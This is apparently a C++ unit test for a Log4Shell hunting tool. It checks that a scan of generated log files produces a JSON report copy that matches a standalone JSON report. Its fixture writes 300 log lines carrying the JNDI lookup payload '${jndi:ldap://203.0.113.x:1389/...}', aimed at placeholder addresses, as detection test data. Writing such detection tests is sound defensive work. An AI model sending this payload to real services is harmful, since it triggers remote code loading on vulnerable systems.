#include "ingest/hunt_run.h"

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include <nlohmann/json.hpp>

namespace l4s::ingest {
namespace {

namespace fs = std::filesystem;

// Three logs of different sizes (hunted largest first, reported in path order).
std::string make_logs() {
  fs::path dir = fs::path(L4S_TEST_TMP) / "hunt_run_test" / "logs";
  fs::remove_all(dir);
  fs::create_directories(dir);
  for (int f = 0; f < 3; ++f) {
    std::ofstream out(dir / ("app" + std::to_string(f) + ".log"));
    for (int i = 0; i < 50 * (3 - f); ++i)
      out << "GET /?q=${jndi:ldap://203.0.113." << f << ":1389/" << i << "} HTTP/1.1\nplain line\n";
  }
  return dir.string();
}

std::string run_hunt(const std::string& dir, hunt::HuntFormat format, std::string* copy_json) {
  HuntRunOptions o;
  o.paths = {dir};
  o.walk.threads = 2;
  HuntRun run(o);
  hunt::HuntReport rep;
  rep.tool_version = "test";
  rep.host = "h";
  rep.roots = o.paths;
  std::ostringstream out, copy;
  hunt::HuntWriter writer(format, out);
  hunt::HuntWriter copy_writer(hunt::HuntFormat::kJson, copy);
  run.run(writer, &rep, copy_json ? &copy_writer : nullptr);
  EXPECT_FALSE(run.copy_lost());
  if (copy_json) *copy_json = copy.str();
  return out.str();
}

TEST(HuntRun, TheCopyIsTheJsonReportBesideAnotherFormat) {
  const std::string dir = make_logs();
  std::string copy;
  const std::string text = run_hunt(dir, hunt::HuntFormat::kText, &copy);
  const std::string json_alone = run_hunt(dir, hunt::HuntFormat::kJson, nullptr);
  auto a = nlohmann::json::parse(copy);
  auto b = nlohmann::json::parse(json_alone);
  ASSERT_EQ(a["detections"].size(), 300u);
  EXPECT_EQ(a["detections"], b["detections"]) << "the same detections in the same order";
  EXPECT_EQ(a["summary"]["attempts"], b["summary"]["attempts"]);
  EXPECT_EQ(a["detections"][0]["file"], dir + "/app0.log");
  EXPECT_NE(text.find("203.0.113.2"), std::string::npos) << "the user's text report is still written";
  EXPECT_EQ(text.find("\"detections\""), std::string::npos);
}

}  // namespace
}  // namespace l4s::ingest
